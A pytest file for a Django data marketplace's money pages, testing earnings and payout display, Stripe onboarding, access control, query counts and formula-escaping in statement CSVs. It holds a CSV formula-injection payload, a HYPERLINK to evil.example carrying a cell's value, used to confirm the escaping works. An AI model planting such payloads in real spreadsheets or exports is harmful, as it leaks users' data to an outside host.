"""The money pages: the organisation's (/organization/money) and the contributor's own
(/me/contributions). Their numbers are the API's (GET /api/earnings, GET /api/payouts) for the
same ledger, built through the services: a paid dataset published, revenue shares set, sales
posted, their hold released, a payout run executed on the Stripe emulator, a refund after the
payout. Members see no money and cannot connect the payout account; another organisation's money
never shows; statement CSVs escape formula cells; the pages' query counts do not grow with the
history."""

import csv
import io
import re
from datetime import date, timedelta

import pytest
import requests
from django.core import mail
from django.core.cache import cache
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from contributors.models import Contributor, Payee, PayoutAccount
from contributors.services.invitations import contributor_invite_send
from contributors.services.payout_accounts import payout_account_refresh
from devtools.processes import free_port
from marketplace.services.identity import membership_add
from payouts.exports import STATEMENT_CSV_HEADERS, csv_cell
from payouts.models import MICRO_PER_CENT
from payouts.selectors import (
    CurrencyMonths,
    MonthEarnings,
    months_back,
    payee_earnings,
    payee_earnings_by_month,
)
from payouts.serializers import earnings_wire
from payouts.services import refund_post, sale_post
from payouts.services.runs import payout_run_create, payout_run_execute
from tests.catalogue_helpers import api, publish_dataset
from tests.factories import make_key, make_org, make_user
from tests.parties import verified_address
from tests.payouts.conftest import payee_of, set_shares
from tests.payouts.test_payout_runs import enable_payouts, sell_and_release
from web.amounts import micros_text
from web.charts import monthly_bar_chart
from web.views import money as money_views

pytestmark = pytest.mark.django_db
M = MICRO_PER_CENT
CLAIM_LINK = re.compile(r"/contributors/claim#token=(\S+)")
FORMULA_REFUND = '=HYPERLINK("http://evil.example/?"&A1,"refund")'


def browser(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def claim(email: str, user) -> Client:
    """`user` claims the contributor profile `email` on the page the e-mailed link opens; their
    signed-in browser."""
    contributor = Contributor.objects.get(email=email)
    mail.outbox.clear()
    assert contributor_invite_send(contributor_id=contributor.pk)
    [message] = mail.outbox
    client = browser(verified_address(user, email))
    done = client.post("/contributors/claim", {"token": CLAIM_LINK.search(message.body).group(1)})
    assert done.status_code == 200 and 'href="/me/contributions"' in done.content.decode()
    return client


# --- reading the pages ---------------------------------------------------------------------------


def row_values(html: str, row_attrs: str) -> dict[str, int]:
    """The exact amounts (`<data value>`) of the table row with these attributes, by field."""
    match = re.search(rf"<tr {row_attrs}>(.*?)</tr>", html, re.S)
    assert match, f"no row {row_attrs}"
    return {
        field: int(value)
        for field, value in re.findall(r'data-field="(\w+)"><data value="(-?\d+)"', match.group(1))
    }


def chart_bars(html: str, currency: str) -> list[tuple[str, int]]:
    svg = re.search(
        rf'<svg class="bar-chart"[^>]*data-currency="{currency}">(.*?)</svg>', html, re.S
    )
    assert svg, "no chart"
    return [
        (month, int(micros))
        for month, micros in re.findall(
            r'<rect class="bar[^"]*"[^>]*data-month="([\d-]+)" data-micros="(-?\d+)"', svg.group(1)
        )
    ]


def chart_table(html: str, currency: str) -> list[tuple[str, int]]:
    table = re.search(
        rf'<table class="chart-table" data-currency="{currency}">(.*?)</table>', html, re.S
    )
    assert table, "no table of the chart"
    return [
        (month, int(micros))
        for month, micros in re.findall(
            r'<tr data-month="([\d-]+)">.*?<data value="(-?\d+)"', table.group(1), re.S
        )
    ]


def assert_page_equals_api(html: str, earnings: dict, payouts: dict) -> None:
    """Every amount of `earnings` (one payee of GET /api/earnings) and every line of `payouts`
    (GET /api/payouts) is on the page, exactly."""
    for row in earnings["currencies"]:
        shown = row_values(html, f'data-currency="{row["currency"]}"')
        assert shown == {k: v for k, v in row.items() if k != "currency"}
    for row in earnings["datasets"]:
        shown = row_values(
            html, f'data-dataset="{row["datasetId"]}" data-currency="{row["currency"]}"'
        )
        assert shown == {"earnedMicros": row["earnedMicros"], "pendingMicros": row["pendingMicros"]}
        assert row["name"] in html
    for line in payouts["items"]:
        shown = row_values(html, f'data-line="{line["id"]}"')
        assert shown == {"amountCents": line["amountCents"]}
        status = re.search(
            rf'<tr data-line="{line["id"]}">.*?data-field="status"><span class="status status-(\w+)"',
            html,
            re.S,
        )
        assert status.group(1) == line["status"]
    # The chart by month: this month holds everything (every posting of the test is today),
    # and its table has the same numbers as its bars.
    for currency in {row["currency"] for row in earnings["datasets"]}:
        bars = chart_bars(html, currency)
        assert len(bars) == 12
        assert bars == chart_table(html, currency)
        earned = sum(r["earnedMicros"] for r in earnings["datasets"] if r["currency"] == currency)
        assert bars[-1][1] == earned and sum(v for _, v in bars[:-1]) == 0


# --- the state -----------------------------------------------------------------------------------


@pytest.fixture
def version(provider):
    _, published = publish_dataset(
        provider.secret, name="Welsh read speech", isPaid=True, basePriceCents=1000
    )
    return published


@pytest.fixture
def shared(version, provider, settings):
    """The provider's dataset: 60 % the organisation, 30 % ana, 10 % ben (no payout account);
    a sale paid out, then a second sale still pending."""
    settings.PAYOUT_THRESHOLD_CENTS = {"usd": 100}
    table = set_shares(
        version,
        provider.user,
        [("org", "60"), ("ana@example.com", "30"), ("ben@example.com", "10")],
    )
    org, ana = payee_of(table, "org"), payee_of(table, "ana@example.com")
    enable_payouts(org)
    enable_payouts(ana)
    sell_and_release(version, refs=["m1"])  # 1000: org 600, ana 300, ben 100 available
    payout_run_execute(run=payout_run_create(currency="usd"))  # org 600, ana 300 paid
    sale_post(
        order_ref="m2",
        dataset_version=version,
        gross_cents=2000,
        platform_fee_cents=0,
        currency="usd",
    )  # pending: org 1200, ana 600, ben 200
    return org, ana


# --- the organisation's page ---------------------------------------------------------------------


def test_the_owner_sees_the_apis_numbers(shared, provider, version):
    org, _ = shared
    owner_api = api(provider.secret)
    client = browser(provider.user)

    def check():
        page = client.get("/organization/money")
        assert page.status_code == 200
        html = page.content.decode()
        earnings = owner_api.get("/api/earnings").json()["organization"]
        payouts = owner_api.get("/api/payouts").json()
        assert_page_equals_api(html, earnings, payouts)
        return html, earnings, payouts

    html, earnings, payouts = check()
    assert earnings["currencies"][0]["paidCents"] == 600 and payouts["total"] == 1
    # Readable amounts: cents as units, the currency named.
    assert '<data value="12000000" class="amount">12.00</data>' in html  # pending
    assert "6.00 USD" in html and "Paid" in html and "status-paid" in html
    assert 'role="img"' in html and '<title id="chart-usd-title">Earnings by month, USD' in html

    # A full refund of the paid-out sale: the organisation owes 6.00 back.
    refund_post(refund_id="re_m1", order_ref="m1", amount_cents=1000)
    html, earnings, _ = check()
    assert earnings["currencies"][0]["availableMicros"] == -600 * M
    assert '<data value="-6000000" class="amount">-6.00</data>' in html


def test_months_with_more_refunds_than_sales_and_empty_months():
    """The chart's axis keeps zero, sub-cent amounts are shown exactly."""
    months = [MonthEarnings(date(2026, m, 1), 0) for m in range(1, 13)]
    months[2] = MonthEarnings(months[2].month, 3_333_334)
    months[5] = MonthEarnings(months[5].month, -1_500_000)
    chart = monthly_bar_chart(CurrencyMonths("eur", months))
    zero = next(t for t in chart.ticks if t.zero)
    march, june = chart.bars[2], chart.bars[5]
    assert march.y + march.height == zero.y and june.y == zero.y and june.negative
    assert march.title == "March 2026: 3.333334 EUR" and [b.year for b in chart.bars][:2] == [
        "2026",
        "",
    ]
    assert chart.ticks[0].text.startswith("-") and chart.ticks[-1].text == "4.00"
    assert micros_text(1_234_567_890_000, "usd") == "1,234,567.89 USD"
    assert micros_text(-5) == "-0.000005"


def test_members_see_a_note_and_cannot_connect_the_payout_account():
    org, _owner = make_org()
    member = make_user()
    membership_add(organization=org, user=member)
    client = browser(member)

    page = client.get("/organization/money").content.decode()
    assert "Only owners of" in page and 'id="balances"' not in page
    assert "Connect payout account" not in page and "Not connected" in page

    refused = client.post("/organization/money/payout-account", follow=True)
    assert refused.redirect_chain == [("/organization/money", 302)]
    assert "Only an owner of the organisation can set up the payout account." in (
        refused.content.decode()
    )
    assert not PayoutAccount.objects.exists() and not Payee.objects.filter(organization=org)
    assert client.get("/organization/money/statement.csv?currency=usd").status_code == 403


def test_the_owner_connects_the_payout_account_on_stripe(settings):
    org, owner = make_org()
    client = browser(owner)
    page = client.get("/organization/money").content.decode()
    assert "Not connected" in page and "Connect payout account" in page

    bad = client.post("/organization/money/payout-account", {"country": "Wales"})
    assert bad.status_code == 400 and "Enter the country as two letters" in bad.content.decode()
    assert not PayoutAccount.objects.exists()

    started = client.post("/organization/money/payout-account", {"country": "gb"})
    account = PayoutAccount.objects.get(payee__organization=org)
    assert started.status_code == 302
    assert started["Location"].startswith(
        f"{settings.STRIPE_API_BASE}/_emulator/onboarding/{account.stripe_account_id}"
    )
    page = client.get("/organization/money").content.decode()
    assert "Started; onboarding not finished" in page and "Continue onboarding" in page
    assert 'name="country"' not in page  # fixed at creation
    # Again: the same account, a fresh link.
    again = client.post("/organization/money/payout-account")
    assert again.status_code == 302 and PayoutAccount.objects.count() == 1

    # Stripe's onboarding sends the person back to our return page, which leads here.
    back = requests.get(started["Location"], allow_redirects=False, timeout=10)
    assert back.headers["Location"].endswith("/payout-account/return")
    returned = Client().get("/payout-account/return").content.decode()
    assert 'href="/organization/money"' in returned
    refresh = Client().get("/payout-account/refresh").content.decode()
    assert "expired" in refresh and 'href="/organization/money"' in refresh
    payout_account_refresh(stripe_account_id=account.stripe_account_id)
    page = client.get("/organization/money").content.decode()
    assert "Connected: payouts enabled" in page and "Continue onboarding" not in page


def test_stripe_down_is_a_message_and_nothing_is_created(settings):
    org, owner = make_org()
    settings.STRIPE_API_BASE = f"http://127.0.0.1:{free_port()}"
    response = browser(owner).post("/organization/money/payout-account", follow=True)
    assert response.redirect_chain == [("/organization/money", 302)]
    assert "The payment provider is unavailable; try again in a moment." in (
        response.content.decode()
    )
    assert not PayoutAccount.objects.exists()


def test_owners_need_two_factor_when_required(settings):
    settings.WEB_OWNER_MFA_REQUIRED = True
    org, owner = make_org()
    response = browser(owner).post("/organization/money/payout-account")
    assert response.status_code == 302 and response["Location"] == "/accounts/2fa/"
    assert not PayoutAccount.objects.exists()


def test_another_organisations_money_never_shows(shared, provider, outsider):
    html = browser(outsider.user).get("/organization/money").content.decode()
    assert "Welsh read speech" not in html and "Nothing earned yet" in html
    assert "data-line=" not in html and "bar-chart" not in html
    # Their statement: they have no ledger account, so no currency to ask for.
    response = browser(outsider.user).get(
        "/organization/money/statement.csv?currency=usd&from=2020-01&to=2030-12"
    )
    assert response.status_code == 400 and b"No statement yet" in response.content
    # The contributor page of a user who is not a contributor shows nobody's money.
    html = browser(outsider.user).get("/me/contributions").content.decode()
    assert "How to claim one" in html and "Welsh read speech" not in html


def test_statement_csv_of_a_period_escapes_formula_cells(shared, provider, version):
    sell_and_release(version, refs=["m3"])  # releases m2 as well
    refund_post(refund_id=FORMULA_REFUND, order_ref="m3", amount_cents=1000)
    client = browser(provider.user)
    month = timezone.localdate().strftime("%Y-%m")

    response = client.get(f"/organization/money/statement.csv?currency=usd&from={month}&to={month}")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == (
        f'attachment; filename="statement-{provider.org.slug}-usd-{month}-to-{month}.csv"'
    )
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == STATEMENT_CSV_HEADERS
    assert [r[2] for r in rows[1:]] == [
        "hold_release",
        "payout_reserve",
        "hold_release",
        "hold_release",
        "refund",
    ]
    refund = rows[-1]
    assert refund[4] == "'" + FORMULA_REFUND  # escaped: never run as a formula
    assert refund[3] == f"refund:{FORMULA_REFUND}"  # starts with a letter: as it is
    assert refund[5] == "-6.000000"  # a number stays a number
    # The running balance ends on the available balance the API reports.
    available = api(provider.secret).get("/api/earnings").json()["organization"]["currencies"][0]
    assert int(refund[6].replace(".", "")) == available["availableMicros"] == 1200 * M

    # The admin's statement CSV is the same writer: the same rows over the whole history.
    staff = browser(make_user(is_staff=True, groups=["finance"]))
    org_payee = Payee.objects.get(organization=provider.org)
    admin_csv = staff.get(
        reverse("admin:payouts_payee_statement", args=[org_payee.pk, "usd"]) + "?format=csv"
    )
    assert list(csv.reader(io.StringIO(admin_csv.content.decode()))) == rows

    # Another period: no rows; a bad one: the page again, the reason next to the field.
    empty = client.get("/organization/money/statement.csv?currency=usd&from=2020-01&to=2020-02")
    assert list(csv.reader(io.StringIO(empty.content.decode()))) == [STATEMENT_CSV_HEADERS]
    bad = client.get(f"/organization/money/statement.csv?currency=usd&from={month}&to=2020-13")
    assert bad.status_code == 400
    html = bad.content.decode()
    assert 'id="id_to_error"' in html and "Enter a month as YYYY-MM" in html
    assert f'value="{month}"' in html and 'value="2020-13"' in html  # what was typed is kept
    backwards = client.get("/organization/money/statement.csv?currency=usd&from=2026-05&to=2026-01")
    assert backwards.status_code == 400 and b"cannot come before the first" in backwards.content


def test_csv_cells_that_start_a_formula_are_escaped():
    assert [csv_cell(v) for v in ["=1+1", "+1+1", "-A1", "@SUM(A1)", "\tx", "\rx"]] == [
        "'=1+1",
        "'+1+1",
        "'-A1",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
    ]
    assert [csv_cell(v) for v in ["-12.5", "+3", "-0.000001", "sale:x", 7, -7, ""]] == [
        "-12.5",
        "+3",
        "-0.000001",
        "sale:x",
        7,
        -7,
        "",
    ]


# --- the contributor's own page ------------------------------------------------------------------


def test_the_contributor_sees_their_share_earnings_and_payouts(shared, version):
    _, ana = shared
    secret, key = make_key()  # ana's own organisation and key: the API answers for her too
    client = claim("ana@example.com", key.user)

    html = client.get("/me/contributions").content.decode()
    assert_page_equals_api(
        html,
        api(secret).get("/api/earnings").json()["contributor"],
        api(secret).get("/api/payouts").json(),
    )
    share = re.search(rf'<tr data-dataset="{version.dataset.public_id}">(.*?)</tr>', html, re.S)
    assert "Welsh read speech" in share.group(1) and "30.00 %" in share.group(1)
    assert "a fixed percentage" in share.group(1) and provider_name(version) in share.group(1)
    assert "Connected: payouts enabled" in html and "Connect my payout account" not in html
    # Her own organisation's money page knows nothing of her contributor money.
    assert "Nothing earned yet" in client.get("/organization/money").content.decode()


def provider_name(version) -> str:
    return version.dataset.organization.name


def test_a_contributor_without_an_organisation_connects_their_payout_account(
    shared, version, settings
):
    ben = make_user()  # belongs to no organisation
    client = claim("ben@example.com", ben)
    page = client.get("/me/contributions")
    assert page.status_code == 200
    html = page.content.decode()
    payee = Payee.objects.get(contributor__user=ben)
    earnings = earnings_wire({"organization": None, "contributor": payee_earnings(payee=payee)})
    assert_page_equals_api(html, earnings["contributor"], {"items": []})
    assert earnings["contributor"]["currencies"][0]["availableMicros"] == 100 * M
    assert "10.00 %" in html and "No payouts yet" in html and "Not connected" in html

    started = client.post("/me/contributions/payout-account")
    account = PayoutAccount.objects.get(payee=payee)
    assert started["Location"].startswith(
        f"{settings.STRIPE_API_BASE}/_emulator/onboarding/{account.stripe_account_id}"
    )
    back = requests.get(started["Location"], allow_redirects=False, timeout=10)
    assert back.headers["Location"].endswith("/contributors/me/payout-account/return")
    returned = client.get("/contributors/me/payout-account/return").content.decode()
    assert 'href="/me/contributions"' in returned
    assert "Continue onboarding" in client.get("/me/contributions").content.decode()


def test_weighted_shares_show_the_weight_and_its_percentage(contributor):
    html = browser(contributor.user).get("/me/contributions").content.decode()
    assert "Contributed speech" in html and "50.00 %" in html and "weight 1 of 2" in html
    assert "Nothing earned yet" in html and "No statement yet" in html


def test_a_user_without_a_profile_is_told_how_to_claim_one():
    user = make_user()
    page = browser(user).get("/me/contributions")
    assert page.status_code == 200
    html = page.content.decode()
    assert "You have not claimed a contributor profile yet" in html and "invitation" in html
    assert browser(user).post("/me/contributions/payout-account").status_code == 302
    assert not PayoutAccount.objects.exists() and not Payee.objects.exists()
    assert Client().get("/me/contributions")["Location"].startswith("/accounts/login/")


# --- queries --------------------------------------------------------------------------------------


def test_query_counts_do_not_grow_with_the_history(shared, provider, version, monkeypatch):
    monkeypatch.setattr(money_views, "PAYOUT_LINES_PER_PAGE", 1)
    owner = browser(provider.user)
    ana = claim("ana@example.com", make_user())

    def count(client, path):
        cache.clear()  # the ledger reads are cached under the ledger's head: count them all
        with CaptureQueriesContext(connection) as queries:
            assert client.get(path).status_code == 200
        return len(queries)

    def counts():
        return {
            "money": count(owner, "/organization/money"),
            "contributions": count(ana, "/me/contributions"),
        }

    counts()  # the first visit also stores the organisation picked in the session
    before = counts()
    # Another dataset with ana in it, more sales, a refund, a second payout run.
    _, second = publish_dataset(provider.secret, name="Second", isPaid=True, basePriceCents=500)
    set_shares(second, provider.user, [("org", "50"), ("ana@example.com", "50")])
    for n in range(5):
        sale_post(
            order_ref=f"q{n}",
            dataset_version=second,
            gross_cents=500,
            platform_fee_cents=0,
            currency="usd",
        )
    sell_and_release(version, refs=["q-a", "q-b"])
    refund_post(refund_id="re_q-a", order_ref="q-a", amount_cents=500)
    payout_run_execute(run=payout_run_create(currency="usd"))
    after = counts()
    assert after == before, (before, after)

    # Paged: the newest line first, the older one on page 2.
    html = owner.get("/organization/money").content.decode()
    assert "Page 1 of 2 (2 payouts)" in html and 'rel="next"' in html
    older = owner.get("/organization/money?page=2").content.decode()
    assert "Page 2 of 2" in older and 'rel="prev"' in older
    org_payee = Payee.objects.get(organization=provider.org)
    series = payee_earnings_by_month(payee=org_payee)
    assert chart_bars(html, "usd") == [
        (m.month.strftime("%Y-%m"), m.earned) for m in series[0].months
    ]


def test_earnings_by_month_follow_the_calendar(shared, version):
    """The window is the last 12 calendar months: next month, today's sales are one bar back;
    a year on, they have left it. Summed over the window they are what the payee earned."""
    org, _ = shared
    refund_post(refund_id="re_m2", order_ref="m2", amount_cents=500)
    now = timezone.now()
    [usd] = payee_earnings_by_month(payee=org, now=now)
    earned = payee_earnings(payee=org).datasets[0].earned
    assert usd.currency == "usd" and usd.total == earned == (600 + 1200 - 300) * M
    this_month = timezone.localdate().replace(day=1)
    assert usd.months[-1] == MonthEarnings(this_month, earned)

    next_month = now + timedelta(days=32)
    [later] = payee_earnings_by_month(payee=org, now=next_month)
    assert later.months[-2] == MonthEarnings(this_month, earned) and later.months[-1].earned == 0
    assert payee_earnings_by_month(payee=org, now=now + timedelta(days=366)) == []
    assert [m.month for m in payee_earnings_by_month(payee=org, months=3)[0].months] == [
        months_back(this_month, 2),
        months_back(this_month, 1),
        this_month,
    ]
